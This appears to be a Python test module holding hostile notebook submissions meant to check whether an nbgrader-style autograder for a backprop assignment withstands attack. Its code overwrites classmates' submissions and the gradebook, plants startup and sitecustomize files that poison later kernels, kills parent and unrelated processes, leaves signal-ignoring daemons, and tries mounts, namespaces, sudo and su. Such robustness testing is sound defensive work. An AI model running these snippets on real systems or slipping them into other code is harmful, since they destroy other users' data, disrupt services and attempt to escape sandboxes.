"""Escaping and damaging: files of others, processes that stay, signals to whoever grades."""

from attacks.attack import SLEEP, attack, everywhere

ATTACKS = (
    attack("damage_others_files", "Overwrites submissions, sources, releases, settings and grades of the class.", lock=True, first="""
        import pathlib
        here = pathlib.Path.cwd().resolve()
        for above in here.parents:
            for pattern in ("submitted/*/*/*.ipynb", "source/*/*.ipynb", "release/*/*.ipynb", "nbgrader_config.py", "autograded/a*/*/*.ipynb"):
                for path in above.glob(pattern):
                    try:
                        path.chmod(0o666)
                        with path.open("a") as file:
                            file.write("backprop-attack")
                    except OSError as problem:
                        print(type(problem).__name__)
        """),
    attack("damage_gradebook", "Empties the gradebook.", lock=True, first="""
        import pathlib
        for above in pathlib.Path.cwd().resolve().parents:
            for name in ("gradebook.db", "gradebook.db-journal", "gradebook.lock"):
                try:
                    (above / name).exists() and (above / name).write_bytes(b"backprop-attack")
                except OSError as problem:
                    print(type(problem).__name__)
        """),
    attack("damage_files_everywhere", "Leaves files wherever it may write: home, temporary folders, the packages of Python.", lock=True, first="""
        import os, pathlib, site, sys, tempfile
        places = {"~", "~/.ipython", "~/.jupyter", "~/.local", "/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/etc", "/usr/lib", tempfile.gettempdir(),
                  *site.getsitepackages(), sys.prefix, *sys.path, *map(str, pathlib.Path.cwd().parents), *os.environ.values()}
        for place in places:
            try:
                folder = pathlib.Path(place).expanduser()
                if folder.is_dir() and folder.resolve() != pathlib.Path.cwd().resolve():
                    (folder / "backprop-attack.txt").write_text("here")
            except (OSError, ValueError):
                continue
        """),
    attack("damage_next_submission", "Leaves startup files for the kernels of those who come after.", lock=True, first="""
        import os, pathlib, site
        text = "raise SystemExit('backprop-attack')"
        places = ["~/.ipython/profile_default/startup/0.py", "~/.ipython/profile_default/ipython_config.py", "~/.jupyter/jupyter_config.py",
                  "~/.config/matplotlib/matplotlibrc", "~/.pythonrc", site.getusersitepackages() + "/usercustomize.py",
                  *(s + "/sitecustomize.py" for s in site.getsitepackages()), *(s + "/backprop-attack.pth" for s in site.getsitepackages())]
        for key in ("IPYTHONDIR", "JUPYTER_CONFIG_DIR", "MPLCONFIGDIR"):
            if os.environ.get(key):
                places += [os.environ[key] + "/profile_default/startup/0.py", os.environ[key] + "/ipython_kernel_config.py"]
        for place in places:
            try:
                path = pathlib.Path(place).expanduser()
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(text)
            except OSError as problem:
                print(type(problem).__name__)
        """),
    attack("damage_warm_parent", "Changes what later kernels share: modules in memory, pages of files, shared memory, semaphores.", lock=True,
           first="""
           import ctypes, mmap, sys, pathlib
           import numpy as np
           np.array = np.asarray = None
           for module in list(sys.modules.values()):
               try:
                   for path in [pathlib.Path(module.__file__)]:
                       with path.open("r+b") as file:
                           mmap.mmap(file.fileno(), 0)[:1] = b"!"
               except (OSError, AttributeError, TypeError, ValueError):
                   continue
           from multiprocessing import shared_memory
           try:
               shared_memory.SharedMemory("backprop-attack", create=True, size=1000)
           except OSError as problem:
               print(type(problem).__name__)
           """),
    attack("damage_signals_to_parents", "Kills whatever started it, and whatever it can reach.", lock=True, last="pass", first="""
        import os, signal
        me = os.getpid()
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            for target in (os.getppid(), *[int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, me)]):
                try:
                    os.kill(target, number)
                except OSError:
                    continue
            for group in (os.getpgid(os.getppid()) if os.getppid() else 0,):
                try:
                    if group not in (0, os.getpgid(0)):
                        os.killpg(group, number)
                except OSError:
                    continue
        """),
    attack("damage_signals_to_all", "Kills everything that it may kill, itself included.", lock=True, cells={"divergence": """
        def divergence(y, d):
            import os
            os.kill(-1, 9)
            os.kill(1, 9)
            os.killpg(0, 9)
        """}),
    attack("damage_daemons", "Leaves processes behind that have cut themselves loose.", lock=True, first=f"""
        import os, subprocess
        subprocess.Popen(["sleep", "{SLEEP}"], start_new_session=True)
        os.system("nohup setsid sleep {SLEEP} >/dev/null 2>&1 &")
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", "{SLEEP}"])
            os._exit(0)
        """),
    attack("damage_daemon_that_holds_on", "Leaves a process behind that ignores every signal and holds the kernel's streams open.", lock=True,
           cells={"divergence": f"""
           def divergence(y, d):
               import subprocess
               subprocess.Popen(["sh", "-c", "trap '' HUP INT TERM QUIT PIPE; sleep {SLEEP}; sleep {SLEEP}"], start_new_session=True)
               return 0.0
           """}),
    attack("damage_kernel_killed", "Ends its own kernel in the middle of a test.", cells={"divergence": """
        def divergence(y, d):
            import os
            os._exit(0)
        """}),
    attack("damage_kernel_crashed", "Crashes its own kernel by reading from address 0.", cells={"forward": """
        def forward(x, W1, W2):
            import ctypes
            ctypes.string_at(0)
        """}),
    attack("damage_kernel_shut_down", "Tells the kernel to shut down, and the shell to leave.", first="""
        ip = get_ipython()
        ip.kernel.do_shutdown(False)
        """, cells=everywhere("get_ipython().ask_exit()", "divergence")),
    attack("damage_kernel_replaced", "Replaces the kernel's process by another program.", cells={"divergence": """
        def divergence(y, d):
            import os
            os.execvp("true", ["true"])
        """}),
    attack("damage_sockets_closed", "Closes every file and socket of the kernel.", cells={"divergence": """
        def divergence(y, d):
            import os
            os.closerange(0, 4096)
        """}),
    attack("damage_late_threads", "Threads, tasks and exit handlers go on printing while others' cells run.", first="""
        import asyncio, atexit, sys, threading, time
        def chatter():
            for _ in range(600):
                print("5.0")
                sys.stderr.write("noise\\n")
                time.sleep(0.01)
        for _ in range(4):
            threading.Thread(target=chatter, daemon=False).start()
        async def later():
            for _ in range(100):
                await asyncio.sleep(0.01)
                sys.displayhook(True)
        task = asyncio.ensure_future(later())
        atexit.register(chatter)
        """, cells=everywhere("0.0")),
    attack("damage_mounts", "Asks the system for other namespaces, mounts and devices.", lock=True, first="""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.unshare(0x10000000 | 0x00020000)
        libc.mount(b"none", b"/", None, 16384 | (1 << 18), None)
        libc.mount(b"none", b"/", None, 32 | 4096, None)
        for place in ("/", "/usr", "/etc"):
            try:
                open(os.path.join(place, "backprop-attack"), "w").write("here")
            except OSError as problem:
                print(type(problem).__name__)
        try:
            os.mknod("device", 0o660 | 0o060000, os.makedev(8, 0))
        except OSError as problem:
            print(type(problem).__name__)
        os.system("su -c true; sudo -n true; bwrap --bind / / touch /tmp/backprop-attack")
        """),
)  # fmt: skip
